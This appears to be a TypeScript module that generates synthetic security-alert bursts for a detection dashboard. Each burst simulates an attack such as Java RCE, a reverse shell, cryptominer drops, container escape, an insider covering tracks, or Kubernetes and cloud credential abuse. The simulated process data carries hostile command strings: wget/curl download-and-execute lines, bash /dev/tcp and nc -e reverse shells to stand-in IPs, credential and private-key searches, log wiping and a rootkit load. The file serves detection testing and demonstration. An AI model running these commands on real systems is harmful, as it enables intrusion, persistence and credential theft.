// Bursts: incidents that light up the dashboard for a few minutes.
import { chance, hex, HOUR_MS, int, k8sSuffix, MINUTE_MS, pick, type Rng, rngFor, weighted } from './rng';
import type { Fields } from './rules';
import {
  ADMINS,
  AUDIT_HOST,
  childOf,
  CLOUD_HOST,
  execParents,
  hostPidAt,
  HOSTS,
  mainChain,
  pickContainer,
  pidStartedAgo,
  type Proc,
  proc,
  ROOT,
  sshdListener,
  sudoed,
  sudoRoot,
  SYSTEMD,
  tool,
} from './cluster';
import {
  API_SERVER,
  connection,
  ctFields,
  type Ctx,
  disallowedUser,
  droppedBinary,
  GCP_PROJECT,
  gcpFields,
  openat,
  pluginAlert,
  rbacReason,
  syscall,
  syscallDrop,
} from './render';
import type { Scenario } from './scenarios';

type BurstKind = (rng: Rng, startMs: number) => Scenario;

/** A Java app exploited (log4shell-style): java → sh → wget, a dropped miner, credential hunting. */
const javaRce: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'java', 'kafka');
  const base = c.profile.base;
  const ip = `198.51.100.${int(rng, 10, 250)}`;
  const main = mainChain(c, startMs);
  const pid = hostPidAt(c.host, startMs);
  const dropper = {
    ...tool(base, 'sh', `-c wget -q -O /tmp/kinsing http://${ip}/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing`),
    pid,
  };
  const kinsing = proc('kinsing', '/tmp/kinsing', '', { argv0: '/tmp/kinsing', pid: pid + 4 });
  const shell = { ...tool(base, 'sh', ''), pid: pid + 31 };
  const user = c.profile.user;
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => syscall(ctx, 'Run shell untrusted', c, { chain: [dropper, ...main], user })],
      [
        2,
        () =>
          syscall(ctx, 'Drop and execute new binary in container', c, {
            chain: [kinsing, dropper, ...main],
            user,
            fields: droppedBinary(ctx, '/tmp/kinsing', int(ctx.rng, 800, 4_000)),
          }),
      ],
      [
        2,
        () =>
          syscall(ctx, 'Contact K8S API Server From Container', c, {
            chain: [
              tool(
                base,
                'wget',
                `-qO- --no-check-certificate --header=Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ik${hex(ctx.rng, 12)} https://${API_SERVER}/api/v1/namespaces/${c.ns}/secrets`,
              ),
              dropper,
              ...main,
            ],
            user,
            fields: connection(ctx.rng, c.ip, API_SERVER, 443),
          }),
      ],
      [
        1.5,
        () =>
          syscall(ctx, 'Find AWS Credentials', c, {
            chain: [tool(base, 'find', '/ -name credentials -path *.aws* -type f'), shell, kinsing, ...main],
            user,
          }),
      ],
      [
        1.5,
        () =>
          syscall(ctx, 'Search Private Keys or Passwords', c, {
            chain: [tool(base, 'grep', '-rIl BEGIN OPENSSH PRIVATE KEY /home /app /tmp'), shell, kinsing, ...main],
            user,
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Fileless execution via memfd_create', c, {
            chain: [proc('kdevtmpfsi', 'memfd:kdevtmpfsi', '-c /tmp/.cfg'), kinsing, dropper, ...main],
            user,
            fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD', 'proc.cwd': '/tmp/' },
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Execution from /dev/shm', c, {
            chain: [tool(base, 'sh', '-c /dev/shm/.k/run.sh'), kinsing, dropper, ...main],
            user,
            fields: { 'fd.name': '/dev/shm/.k/run.sh' },
          }),
      ],
      [
        1.5,
        () =>
          syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
            chain: [tool(base, 'bash', `-c bash -i >& /dev/tcp/${ip}/4444 0>&1`), shell, kinsing, ...main],
            user,
            fields: connection(ctx.rng, c.ip, ip, 4444, 'dup2'),
          }),
      ],
    ] as const)(),
  ];
};

/** A Python app with command injection: python → sh → nc -e /bin/sh 10.0.0.5 4444. */
const pythonReverseShell: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'python');
  const base = c.profile.base;
  const main = mainChain(c, startMs);
  const pid = hostPidAt(c.host, startMs);
  const launcher = { ...tool(base, 'sh', '-c nc -e /bin/sh 10.0.0.5 4444'), pid };
  const nc = { ...tool(base, 'nc', '-e /bin/sh 10.0.0.5 4444'), pid: pid + 1 };
  // nc -e execs the shell in its own process: same pid, new name.
  const shell = { ...tool(base, 'sh'), pid: pid + 1 };
  const user = c.profile.user;
  const root = user.uid === 0;
  return (ctx) => [
    weighted(ctx.rng, [
      [2, () => syscall(ctx, 'Netcat Remote Code Execution in Container', c, { chain: [nc, launcher, ...main], user })],
      [2, () => syscall(ctx, 'Run shell untrusted', c, { chain: [launcher, ...main], user })],
      [
        1.5,
        () =>
          syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
            chain: [nc, launcher, ...main],
            user,
            fields: connection(ctx.rng, c.ip, '10.0.0.5', 4444, 'dup2'),
          }),
      ],
      [
        root ? 2 : 0,
        () =>
          syscall(ctx, 'Read sensitive file untrusted', c, {
            chain: [tool(base, 'cat', '/etc/shadow'), shell, launcher, ...main],
            user,
            fields: openat('/etc/shadow'),
          }),
      ],
      [
        root ? 1 : 0,
        () =>
          syscall(ctx, 'Directory traversal monitored file read', c, {
            chain: main,
            user,
            fields: openat('/etc/shadow', { 'fd.nameraw': '/srv/app/static/../../../etc/shadow' }),
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Packet socket created in container', c, {
            chain: [
              tool(base, 'python3', '-c from scapy.all import sniff; sniff(iface="eth0", count=500)'),
              shell,
              launcher,
              ...main,
            ],
            user,
            fields: {
              'evt.type': 'socket',
              'evt.args': 'fd=5(<p>) domain=17(AF_PACKET) type=3 proto=768',
              'fd.name': '',
              'fd.lport': null,
              'fd.rport': null,
              'fd.type': '<NA>',
              'fd.l4proto': '<NA>',
            },
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Search Private Keys or Passwords', c, {
            chain: [tool(base, 'find', '/ -name id_rsa -o -name id_ed25519 -o -name *.pem'), shell, launcher, ...main],
            user,
          }),
      ],
      [
        0.7,
        () =>
          syscall(ctx, 'Find AWS Credentials', c, {
            chain: [tool(base, 'grep', '-r aws_secret_access_key /srv /root /home'), shell, launcher, ...main],
            user,
          }),
      ],
    ] as const)(),
  ];
};

/** The ingress controller compromised: nginx → sh → curl, a miner, API server probing. */
const ingressCompromise: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'ingress');
  const base = c.profile.base;
  const ip = `198.51.100.${int(rng, 10, 250)}`;
  const main = mainChain(c, startMs);
  const pid = hostPidAt(c.host, startMs);
  const sh = { ...tool(base, 'sh', `-c curl -fsSL http://${ip}/x.sh | sh`), pid };
  const stage = { ...tool(base, 'sh'), pid: pid + 2 };
  const xmrig = proc('xmrig', '/tmp/.X11-unix/xmrig', '-o stratum+tcp://203.0.113.99:3333 --donate-level=0 -B', {
    argv0: './xmrig',
    pid: pid + 9,
  });
  const user = c.profile.user;
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => syscall(ctx, 'Run shell untrusted', c, { chain: [sh, ...main], user })],
      [
        2,
        () =>
          syscall(ctx, 'Drop and execute new binary in container', c, {
            chain: [xmrig, stage, sh, ...main],
            user,
            cwd: '/tmp/.X11-unix/',
            fields: droppedBinary(ctx, './xmrig', int(ctx.rng, 1_000, 6_000)),
          }),
      ],
      [
        2,
        () =>
          syscall(ctx, 'Contact K8S API Server From Container', c, {
            chain: [tool(base, 'curl', `-sk -H @/tmp/.h https://${API_SERVER}/api/v1/secrets`), stage, sh, ...main],
            user,
            fields: connection(ctx.rng, c.ip, API_SERVER, 443),
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Clear Log Activities', c, {
            chain: [tool(base, 'sh', '-c : > /var/log/nginx/error.log'), stage, sh, ...main],
            user,
            fields: openat('/var/log/nginx/error.log'),
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Create Symlink Over Sensitive Files', c, {
            chain: [tool(base, 'ln', '-s /etc /tmp/.e'), stage, sh, ...main],
            user,
            fields: { 'evt.type': 'symlinkat', 'evt.arg.target': '/etc', 'evt.arg.linkpath': '/tmp/.e' },
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Execution from /dev/shm', c, {
            chain: [tool(base, 'sh', '-c /dev/shm/.x/upd'), stage, sh, ...main],
            user,
            fields: { 'fd.name': '/dev/shm/.x/upd' },
          }),
      ],
      [
        0.7,
        () =>
          syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
            chain: [tool(base, 'bash', `-c bash -i >& /dev/tcp/${ip}/443 0>&1`), stage, sh, ...main],
            user,
            fields: connection(ctx.rng, c.ip, ip, 443, 'dup2'),
          }),
      ],
    ] as const)(),
  ];
};

/** Someone with sudo on a node covers their tracks: tmux → bash → sudo → sudo → …. */
const hostInsider: BurstKind = (rng, startMs) => {
  const host = pick(rng, HOSTS);
  const admin = pick(rng, ADMINS);
  const tmux = proc('tmux', '/usr/bin/tmux', 'new-session -A -s ops', {
    pid: pidStartedAgo(host, startMs, 3 * HOUR_MS),
  });
  const bash = proc('bash', '/usr/bin/bash', '', { argv0: '-bash', pid: (tmux.pid ?? 0) + 1 });
  const shell = [bash, tmux, SYSTEMD];
  const user = sudoRoot(admin);
  const tty = 34816 + int(rng, 0, 4);
  const run = (ctx: Ctx, rule: string, command: Proc, fields: Fields = {}) =>
    syscall(ctx, rule, host, { chain: sudoed(command, shell), user, tty, fields });
  const al = (name: string, args: string) => tool('amazonlinux', name, args);
  return (ctx) => [
    weighted(ctx.rng, [
      [3, () => run(ctx, 'Read sensitive file untrusted', al('cat', '/etc/shadow'), openat('/etc/shadow'))],
      [1, () => run(ctx, 'Read sensitive file untrusted', al('cat', '/etc/sudoers'), openat('/etc/sudoers'))],
      [
        1,
        () =>
          run(ctx, 'Create Hardlink Over Sensitive Files', al('ln', '/etc/shadow /var/tmp/.s'), {
            'evt.type': 'linkat',
            'evt.arg.oldpath': '/etc/shadow',
            'evt.arg.newpath': '/var/tmp/.s',
          }),
      ],
      [1, () => run(ctx, 'Clear Log Activities', al('truncate', '-s 0 /var/log/secure'), openat('/var/log/secure'))],
      [1, () => run(ctx, 'Remove Bulk Data from Disk', al('shred', `-u -n 3 /home/${admin.name}/.bash_history`))],
      [
        1,
        () =>
          run(
            ctx,
            'PTRACE attached to process',
            al('gdb', `-p ${sshdListener(host).pid ?? 1} -batch -ex generate-core-file`),
            { 'evt.type': 'ptrace' },
          ),
      ],
      [
        0.7,
        () =>
          run(
            ctx,
            'Linux Kernel Module Injection Detected',
            tool('amazonlinux', 'insmod', '/var/tmp/.m/diamorphine.ko'),
            { 'evt.type': 'init_module' },
          ),
      ],
      [
        1,
        () =>
          run(
            ctx,
            'Search Private Keys or Passwords',
            al('find', '/ -name id_rsa -o -name *.pem -o -name authorized_keys'),
          ),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Disallowed SSH Connection Non Standard Port', host, {
            chain: [al('ssh', '-p 2222 -i /var/tmp/.k ops@203.0.113.80'), ...shell],
            user: admin,
            tty,
            fields: connection(ctx.rng, host.ip, '203.0.113.80', 2222),
          }),
      ],
    ] as const)(),
  ];
};

/** A poisoned CI job abuses the privileged docker-in-docker container to reach the node. */
const ciEscape: BurstKind = (rng, startMs) => {
  const c = pickContainer(rng, 'dind');
  const parents = execParents(c, startMs, rng);
  const job = childOf(parents, tool('alpine', 'sh', '-c sh /builds/acme/platform-images/.ci/setup.sh'), rng);
  const setup = childOf([job], tool('alpine', 'sh', '/builds/acme/platform-images/.ci/setup.sh'), rng);
  const session = [setup, job, ...parents];
  const cgroup = `/tmp/cgrp${int(rng, 1, 9)}`;
  return (ctx) => [
    weighted(ctx.rng, [
      [
        3,
        () =>
          syscall(ctx, 'Detect release_agent File Container Escapes', c, {
            chain: [tool('alpine', 'sh', `-c echo /cmd > ${cgroup}/release_agent`), ...session],
            user: ROOT,
            fields: openat(`${cgroup}/release_agent`),
          }),
      ],
      [
        1.5,
        () =>
          syscall(ctx, 'Linux Kernel Module Injection Detected', c, {
            chain: [tool('alpine', 'insmod', '/tmp/.m/rootkit.ko'), ...session],
            user: ROOT,
            fields: { 'evt.type': 'init_module' },
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Debugfs Launched in Privileged Container', c, {
            chain: [tool('alpine', 'debugfs', '-w /dev/nvme0n1p1'), ...session],
            user: ROOT,
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Drop and execute new binary in container', c, {
            chain: [proc('payload', '/cmd', '', { argv0: '/cmd' }), ...session],
            user: ROOT,
            cwd: '/builds/acme/platform-images/',
            fields: droppedBinary(ctx, '/cmd', int(ctx.rng, 500, 5_000)),
          }),
      ],
      [
        1,
        () =>
          syscall(ctx, 'Read sensitive file untrusted', c, {
            chain: [tool('alpine', 'cat', '/host/etc/shadow'), ...session],
            user: ROOT,
            fields: openat('/host/etc/shadow'),
          }),
      ],
    ] as const)(),
  ];
};

/** A node under load drops syscalls for a while. */
const nodeDrops: BurstKind = (rng) => {
  const host = pick(rng, HOSTS);
  return (ctx) => [syscallDrop(ctx, host, chance(ctx.rng, 0.15))];
};

/** A leaked token used against the API server. */
const k8sAbuse: BurstKind = (rng) => {
  const actor = pick(rng, ['system:serviceaccount:default:default', 'contractor-jdoe@example.com']);
  const pod = `debug-tools-${k8sSuffix(rng, 5)}`;
  const image = ['docker.io/library/alpine:3.19'];
  return (ctx) => {
    const r = ctx.rng;
    const target = pickContainer(r, 'java', 'python', 'node');
    return [
      weighted(r, [
        [
          3,
          () => {
            const [verb, resource, ns, code] = pick(r, [
              ['list', 'secrets', 'payments', '200'],
              ['list', 'secrets', 'kube-system', '403'],
              ['get', 'pods', 'payments', '200'],
              ['list', 'pods', null, '200'],
              ['create', 'pods', 'default', '201'],
              ['list', 'nodes', null, '403'],
            ] as const);
            return disallowedUser(ctx, actor, verb, resource, ns, null, code);
          },
        ],
        [
          1,
          () =>
            pluginAlert(ctx, 'K8s Secret Get Successfully', AUDIT_HOST, {
              'ka.user.name': actor,
              'ka.target.name': pick(r, ['payments-db-credentials', 'stripe-api-key', 'default-token-7xk2p']),
              'ka.target.namespace': 'payments',
              'ka.target.resource': 'secrets',
              'ka.response.code': '200',
              'ka.auth.decision': 'allow',
              'ka.auth.reason': rbacReason('ClusterRoleBinding "legacy-readers"', 'view-secrets', `User "${actor}"`),
            }),
        ],
        [
          1.5,
          () =>
            pluginAlert(ctx, 'Attach/Exec Pod', AUDIT_HOST, {
              'ka.user.name': actor,
              'ka.target.name': target.pod,
              'ka.target.resource': 'pods',
              'ka.target.namespace': target.ns,
              'ka.target.subresource': 'exec',
              'ka.uri.param[command]': pick(r, ['sh', 'env', 'cat']),
            }),
        ],
        [
          1,
          () =>
            pluginAlert(ctx, 'Create Privileged Pod', AUDIT_HOST, {
              'ka.user.name': actor,
              'ka.resp.name': pod,
              'ka.target.resource': 'pods',
              'ka.target.namespace': 'default',
              'ka.req.pod.containers.image': image,
              'ka.req.pod.initContainers.image': null,
              'ka.req.pod.ephemeralContainers.image': null,
            }),
        ],
        [
          0.7,
          () =>
            pluginAlert(ctx, 'Create Sensitive Mount Pod', AUDIT_HOST, {
              'ka.user.name': actor,
              'ka.resp.name': pod,
              'ka.target.namespace': 'default',
              'ka.target.resource': 'pods',
              'ka.req.pod.containers.image': image,
              'jevt.value[/requestObject/spec/volumes]': JSON.stringify([
                { hostPath: { path: '/var/run/containerd/containerd.sock', type: 'Socket' }, name: 'cri' },
                { hostPath: { path: '/', type: '' }, name: 'host' },
              ]),
            }),
        ],
        [
          0.7,
          () =>
            pluginAlert(ctx, 'Create HostNetwork Pod', AUDIT_HOST, {
              'ka.user.name': actor,
              'ka.resp.name': pod,
              'ka.target.resource': 'pods',
              'ka.target.namespace': 'default',
              'ka.req.pod.containers.image': image,
            }),
        ],
      ] as const)(),
    ];
  };
};

/** Leaked cloud credentials: console login without MFA, bucket enumeration, policies opened up. */
const cloudAbuse: BurstKind = (rng) => {
  const ip = `198.51.100.${int(rng, 10, 250)}`;
  if (chance(rng, 0.6)) {
    const user = pick(rng, ['bob', 'ci-artifacts-reader']);
    const region = pick(rng, ['us-east-1', 'ap-southeast-1']);
    return (ctx) => {
      const bucket = pick(ctx.rng, ['acme-prod-backups', 'acme-prod-artifacts', 'acme-terraform-state']);
      return [
        weighted(ctx.rng, [
          [1, () => pluginAlert(ctx, 'Console Login Without MFA', CLOUD_HOST, ctFields(user, ip, region))],
          [
            4,
            () =>
              pluginAlert(
                ctx,
                'List Buckets',
                CLOUD_HOST,
                ctFields(user, ip, region, { 'ct.request.host': `s3.${region}.amazonaws.com` }),
              ),
          ],
          [
            1.5,
            () =>
              pluginAlert(
                ctx,
                'Put Bucket Policy',
                CLOUD_HOST,
                ctFields(user, ip, region, {
                  's3.bucket': bucket,
                  'ct.request.policy': JSON.stringify({
                    Version: '2012-10-17',
                    Statement: [
                      { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` },
                    ],
                  }),
                }),
              ),
          ],
          [
            1,
            () =>
              pluginAlert(
                ctx,
                'Delete Bucket Public Access Block',
                CLOUD_HOST,
                ctFields(user, ip, region, { 's3.bucket': bucket }),
              ),
          ],
          [
            0.5,
            () =>
              pluginAlert(
                ctx,
                'CloudTrail Logging Disabled',
                CLOUD_HOST,
                ctFields(user, ip, region, { 'ct.request.name': 'acme-org-trail' }),
              ),
          ],
          [
            0.7,
            () =>
              pluginAlert(
                ctx,
                'Create AWS user',
                CLOUD_HOST,
                ctFields(user, ip, region, { 'ct.request.username': 'support-sync' }),
              ),
          ],
        ] as const)(),
      ];
    };
  }
  const user = `dataflow-runner@${GCP_PROJECT}.iam.gserviceaccount.com`;
  const agent = 'python-requests/2.31.0,gzip(gfe)';
  return (ctx) => {
    const bucket = pick(ctx.rng, ['acme-analytics-raw', 'acme-analytics-exports', 'acme-ml-models']);
    return [
      weighted(ctx.rng, [
        [
          3,
          () =>
            pluginAlert(
              ctx,
              'GCP Bucket enumerated',
              CLOUD_HOST,
              gcpFields(
                user,
                ip,
                agent,
                'storage.objects.list',
                `projects/_/buckets/${bucket}`,
                {},
                { 'gcp.storage.bucket': bucket },
              ),
            ),
        ],
        [
          1,
          () =>
            pluginAlert(
              ctx,
              'GCP IAM service account key created',
              CLOUD_HOST,
              gcpFields(user, ip, agent, 'iam.serviceAccountKeys.create', `projects/-/serviceAccounts/${user}`, {
                '@type': 'type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest',
                name: `projects/-/serviceAccounts/${user}`,
              }),
            ),
        ],
        [
          0.7,
          () =>
            pluginAlert(
              ctx,
              'GCP Bucket configured to be public',
              CLOUD_HOST,
              gcpFields(
                user,
                ip,
                agent,
                'storage.buckets.setIamPolicy',
                `projects/_/buckets/${bucket}`,
                {
                  '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest',
                  resource: `projects/_/buckets/${bucket}`,
                },
                {
                  'gcp.policyDelta': JSON.stringify([
                    { action: 'ADD', member: 'allUsers', role: 'roles/storage.objectViewer' },
                  ]),
                  'gcp.storage.bucket': bucket,
                },
              ),
            ),
        ],
        [
          1,
          () =>
            pluginAlert(
              ctx,
              'GCP IAM policy modified',
              CLOUD_HOST,
              gcpFields(
                user,
                ip,
                agent,
                'resourcemanager.projects.setIamPolicy',
                `projects/${GCP_PROJECT}`,
                { '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest', resource: GCP_PROJECT },
                {
                  'gcp.policyDelta': JSON.stringify([
                    { action: 'ADD', member: 'user:attacker.mail@example.net', role: 'roles/owner' },
                  ]),
                },
              ),
            ),
        ],
        [
          0.5,
          () =>
            pluginAlert(
              ctx,
              'GCP GCE Firewall rule modified',
              CLOUD_HOST,
              gcpFields(
                user,
                ip,
                agent,
                'compute.firewalls.update',
                `projects/${GCP_PROJECT}/global/firewalls/default-allow-ssh`,
                {
                  '@type': 'type.googleapis.com/compute.firewalls.update',
                  name: 'default-allow-ssh',
                  sourceRanges: ['0.0.0.0/0'],
                },
              ),
            ),
        ],
      ] as const)(),
    ];
  };
};

const BURST_KINDS: readonly (readonly [number, BurstKind])[] = [
  [2, javaRce],
  [2, pythonReverseShell],
  [1.5, ingressCompromise],
  [1.5, hostInsider],
  [1, ciEscape],
  [2, nodeDrops],
  [1.2, k8sAbuse],
  [1.2, cloudAbuse],
];

// Rare, short and far above the average rate, so that a burst stands out on the timeline.
const BURST_CHANCE_PER_HOUR = 1 / 30;
const BURST_MINUTES = [8, 30] as const;
const BURST_INTENSITY = [6, 16] as const;
export const BURST_SHARE =
  (BURST_CHANCE_PER_HOUR / 60) *
  ((BURST_MINUTES[0] + BURST_MINUTES[1]) / 2) *
  ((BURST_INTENSITY[0] + BURST_INTENSITY[1]) / 2);

export interface Burst {
  hour: number;
  firstSlot: number;
  minutes: number;
  intensity: number;
  scenario: Scenario;
}

export function burstAt(seed: number, hour: number): Burst | null {
  const rng = rngFor(seed, 'burst', hour);
  if (rng() >= BURST_CHANCE_PER_HOUR) return null;
  const firstSlot = hour * 60 + int(rng, 0, 59);
  const minutes = int(rng, BURST_MINUTES[0], BURST_MINUTES[1]);
  const intensity = BURST_INTENSITY[0] + rng() * (BURST_INTENSITY[1] - BURST_INTENSITY[0]);
  const kind = weighted(rng, BURST_KINDS);
  return { hour, firstSlot, minutes, intensity, scenario: kind(rng, firstSlot * MINUTE_MS) };
}
